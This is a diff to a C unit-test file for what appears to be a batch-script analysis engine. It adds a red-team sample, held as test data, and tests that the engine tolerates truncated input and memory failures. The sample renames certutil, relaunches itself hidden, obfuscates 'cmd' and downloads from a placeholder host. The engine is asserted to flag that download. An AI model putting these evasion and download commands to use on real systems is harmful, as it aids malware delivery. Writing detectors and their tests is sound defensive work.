@@ -4,6 +4,8 @@
 #include "base/buf.h"
 #include "base/mem.h"
 
+#include <stdlib.h>
+
 /* clang-format off */
 #include <setjmp.h>
 #include <stdarg.h>
@@ -48,7 +50,7 @@ static void on_note(void *ctx, enum script_note_kind kind, uint64_t offset, stru
 static enum hn_status evaluate(
         enum script_language language, struct hn_text text, uint64_t steps, struct heard *heard)
 {
-    struct script_sink sink = { heard, on_act, on_layer, NULL, on_note };
+    struct script_sink sink = { heard, on_act, on_layer, NULL, on_note, NULL };
     struct script_part part = { .text = text };
     struct script_source source = { .language = language, .parts = &part, .part_count = 1 };
     struct script_limits limits = script_limits_default;
@@ -239,12 +241,65 @@ static void hostile_source_ends(void **state)
     }
 }
 
+/* What a red team wrote: copies, files that start themselves, lines that fit, lists cut in pieces.
+ */
+static const char whole[] =
+        "@echo off\r\ncopy C:\\Windows\\System32\\certutil.exe \"%tmp%\\a b.exe\" /y >nul\r\n"
+        ">>f.txt (\r\necho abc one\r\necho xyz two)\r\n"
+        "for /f \"tokens=2 delims=f=\" %%a in ('assoc .cmd') do %%a /c \"echo 1&echo \"2\"\"\r\n"
+        "findstr /i /r \"^ab.*e$ q\\.\" f.txt > g.txt & find /v \"one\" f.txt | clip\r\n"
+        "for /f \"delims==\" %%i in ('set^|findstr PSM') do set v=%%i & set w=!v:~1!\r\n"
+        "if \"%1\"==\"\" (start \"t\" /min ,\"%~f0\" go & exit /b) else shift\r\n"
+        "\"%tmp%\\a b.exe\" -urlcache -f http://a.example/x y && goto e || ftype cmdfile\r\n"
+        "c\"m\"d /v:on /c \"\"p\"q\" r\"\r\n:e\r\n";
+
+static void every_beginning_is_harmless(void **state)
+{
+    struct heard heard;
+
+    (void)state;
+    for (size_t len = 0; len < sizeof whole; len++) {
+        char *exact = malloc(len + 1);
+
+        assert_non_null(exact);
+        (void)memcpy(exact, whole, len);
+        assert_int_equal(evaluate(SCRIPT_BATCH, hn_text_of(exact, len), 100000, &heard), HN_OK);
+        done(&heard);
+        free(exact);
+    }
+    (void)evaluate(SCRIPT_BATCH, hn_text_cstr(whole), 100000, &heard);
+    assert_true(hn_text_find(hn_buf_text(&heard.others),
+                        HN_TEXT("layer command certutil -urlcache -f http://a.example/x y"),
+                        0) != SIZE_MAX);
+    done(&heard);
+}
+
+static void failing_memory_is_survived(void **state)
+{
+    bool failed = true;
+
+    (void)state;
+    for (uint64_t n = 1; failed; n++) {
+        struct heard heard;
+        enum hn_status status;
+
+        hn_mem_fail_from(n);
+        status = evaluate(SCRIPT_BATCH, hn_text_cstr(whole), 100000, &heard);
+        failed = hn_mem_fail_hits() > 0;
+        hn_mem_fail_from(0);
+        assert_true(status == HN_OK || status == HN_NOMEM);
+        done(&heard);
+    }
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(cases_do_what_they_say),
         cmocka_unit_test(command_lines),
         cmocka_unit_test(hostile_source_ends),
+        cmocka_unit_test(every_beginning_is_harmless),
+        cmocka_unit_test(failing_memory_is_survived),
     };
 
     return cmocka_run_group_tests(tests, NULL, NULL);
